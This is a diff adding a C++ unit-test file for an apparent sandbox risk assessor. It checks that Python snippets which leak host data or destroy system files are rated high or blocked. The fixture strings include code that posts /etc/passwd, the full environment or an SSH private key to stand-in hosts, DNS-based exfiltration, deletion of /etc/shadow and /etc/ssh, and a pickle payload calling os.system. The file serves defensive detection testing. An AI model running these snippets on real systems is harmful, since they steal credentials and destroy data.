@@ -1,0 +1,131 @@
+// Where the host's data goes (issue 41): values are followed from their sources (a system
+// file's contents, credentials, the whole environment) through names, returns, attributes,
+// containers, f-strings, lambdas, generators and calls of the file's own functions into the
+// calls that send them or destroy files. Each case pairs the behaviour with an honest look-alike
+// that must stay lower.
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <string>
+
+#include "assess_fixture.hpp"
+#include "sandboxrun/assess.hpp"
+
+using namespace sandboxrun;
+
+namespace {
+
+using assess_fixture::level;
+
+const Finding* finding(const Assessment& a, std::string_view rule) {
+  const auto it = std::find_if(a.findings.begin(), a.findings.end(), [&](const Finding& f) { return f.rule == rule; });
+  return it == a.findings.end() ? nullptr : &*it;
+}
+
+}  // namespace
+
+TEST(AssessDataFlow, HostDataSentOutIsHighAndTheFindingNamesSourceAndSink) {
+  const Assessment a = assess_source(
+      "import requests\nwith open('/etc/passwd') as f:\n    accounts = f.read()\n"
+      "requests.post('https://collector.example.com/in', data=accounts)\n",
+      assess_fixture::config());
+  EXPECT_EQ(a.level, RiskLevel::high);
+  const Finding* f = finding(a, "SR-FLOW-001");
+  ASSERT_NE(f, nullptr);
+  EXPECT_EQ(f->line, 4) << "the sink's line";
+  EXPECT_NE(f->message.find("data read at line 2"), std::string::npos) << f->message;
+  // The program's own file, summarised and posted: a client, nothing more.
+  EXPECT_EQ(level("import json, requests\nwith open('settings.json') as f:\n    s = json.load(f)\n"
+                  "requests.post('https://status.example.com/p', json={'jobs': len(s)})\n"),
+            RiskLevel::medium);
+  // Read and kept local: the account database enumerated.
+  EXPECT_EQ(level("with open('/etc/passwd') as f:\n    print(sum(1 for _ in f))\n"), RiskLevel::medium);
+}
+
+TEST(AssessDataFlow, CredentialsOrTheEnvironmentSentOutAreBlocked) {
+  EXPECT_EQ(level("import json, os, requests\nsnap = dict(os.environ)\n"
+                  "requests.post('https://hooks.example.com/c', data=json.dumps(snap))\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level("import subprocess, urllib.request\nd = subprocess.check_output(['env'])\n"
+                  "urllib.request.urlopen('http://198.51.100.5/e', data=d)\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level("import socket\nk = open('/home/bob/.ssh/id_ed25519').read()\n"
+                  "socket.gethostbyname(k[:20] + '.x.example.net')\n"),
+            RiskLevel::blocked);
+  // One setting of its own, as its own client's token: MEDIUM.
+  EXPECT_EQ(level("import os, requests\nt = os.environ.get('GITHUB_TOKEN')\n"
+                  "requests.get('https://api.github.com/user', headers={'Authorization': f'token {t}'})\n"),
+            RiskLevel::medium);
+}
+
+TEST(AssessDataFlow, FollowsFunctionsClassesLambdasComprehensionsAndGenerators) {
+  // The sink inside a function, the data given at its call.
+  EXPECT_EQ(level("import requests\ndef report(text):\n    body = text.encode()\n"
+                  "    requests.post('http://x.example/r', data=body)\nreport(open('/proc/cmdline').read())\n"),
+            RiskLevel::high);
+  // A helper that reads the path it is given.
+  EXPECT_EQ(level("import requests\ndef slurp(p):\n    return open(p).read()\n"
+                  "requests.post('http://x.example/r', data=slurp('/etc/group'))\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\ndef slurp(p):\n    return open(p).read()\n"
+                  "requests.post('http://x.example/r', data=slurp('notes.txt'))\n"),
+            RiskLevel::medium);
+  // Set on the instance in one method, sent by the caller.
+  EXPECT_EQ(level("import requests\nclass Inv:\n    def __init__(self):\n        self.g = open('/etc/group').read()\n"
+                  "inv = Inv()\nrequests.put('https://x.example/i', data=inv.g)\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\nsend = lambda b: requests.post('https://x.example/u', data=b)\n"
+                  "send(open('/etc/hostname').read())\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\nm = [l.split()[1] for l in open('/proc/mounts')]\n"
+                  "requests.post('https://x.example/m', json={'m': m})\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import socket\ndef lines(p):\n    for l in open(p):\n        yield l\n"
+                  "s = socket.socket()\nfor l in lines('/etc/fstab'):\n    s.send(l.encode())\n"),
+            RiskLevel::high);
+  // Collected into a list with append, then joined.
+  EXPECT_EQ(level("import requests\nout = []\nfor line in open('/root/.profile'):\n    out.append(line)\n"
+                  "requests.post('https://x.example/p', data='\\n'.join(out))\n"),
+            RiskLevel::high);
+}
+
+TEST(AssessDataFlow, DestroyingSystemFilesIsBlocked) {
+  EXPECT_EQ(level("import os\nos.remove('/etc/passwd')\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("from pathlib import Path\nPath('/etc/group').unlink()\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("import shutil\nshutil.move('/etc/passwd', '/tmp/p')\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("with open('/etc/fstab', 'w') as f:\n    f.write('')\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("import shutil\nshutil.rmtree('/etc/ssh')\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("import subprocess\nsubprocess.run(['rm', '-f', '/etc/shadow'])\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("import glob, os\nfor c in glob.glob('/etc/*.conf'):\n    os.remove(c)\n"), RiskLevel::blocked);
+  // Its own files, an edit of /etc/hosts, an install under /usr/local: not destruction.
+  EXPECT_EQ(level("import glob, os\nfor c in glob.glob('out/*.csv'):\n    os.remove(c)\n"), RiskLevel::medium);
+  EXPECT_EQ(level("with open('/etc/hosts', 'a') as f:\n    f.write('127.0.0.1 x\\n')\n"), RiskLevel::high);
+  EXPECT_NE(level("import shutil\nshutil.copy('/usr/bin/tool', '/usr/local/bin/tool')\n"), RiskLevel::blocked);
+}
+
+TEST(AssessDataFlow, EachArgumentIsReadInItsRole) {
+  // shutil.copy(SRC, DST): a copy of /etc/passwd away writes no passwd.
+  EXPECT_EQ(level("import shutil\nshutil.copy('/etc/passwd', 'accounts.txt')\n"), RiskLevel::medium);
+  EXPECT_EQ(level("import shutil\nshutil.copy('mine', '/etc/passwd')\n"), RiskLevel::blocked);
+  // crontab -l lists; crontab FILE installs.
+  EXPECT_NE(level("import os\nprint(os.popen('crontab -l').read())\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("import os\nos.system('crontab job.txt')\n"), RiskLevel::blocked);
+  // A pickle opcode stream written by hand that calls os.system.
+  EXPECT_EQ(level("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n"), RiskLevel::blocked);
+}
+
+TEST(AssessDataFlow, ARoundTripOfItsOwnObjectsIsNoPayload) {
+  EXPECT_EQ(level("import pickle, zlib\nobj = {'a': [1, 2]}\n"
+                  "print(pickle.loads(zlib.decompress(zlib.compress(pickle.dumps(obj)))))\n"),
+            RiskLevel::medium);
+  EXPECT_EQ(level("import base64, pickle\nstate = {'s': 1}\nt = base64.b64encode(pickle.dumps(state)).decode()\n"
+                  "print(pickle.loads(base64.b64decode(t)))\n"),
+            RiskLevel::medium);
+  // Data from elsewhere, decoded and unpickled, still is.
+  EXPECT_EQ(level("import base64, pickle, sys\npickle.loads(base64.b64decode(sys.argv[1]))\n"), RiskLevel::blocked);
+  // timeit of the file's own function with its own arguments is a benchmark.
+  EXPECT_EQ(level("import timeit\ndef fib(n):\n    return n\nfor n in (1, 2):\n"
+                  "    print(timeit.timeit(f'fib({n})', globals=globals(), number=3))\n"),
+            RiskLevel::low);
+  EXPECT_EQ(level("import sys, timeit\nprint(timeit.timeit(sys.argv[1]))\n"), RiskLevel::high);
+}
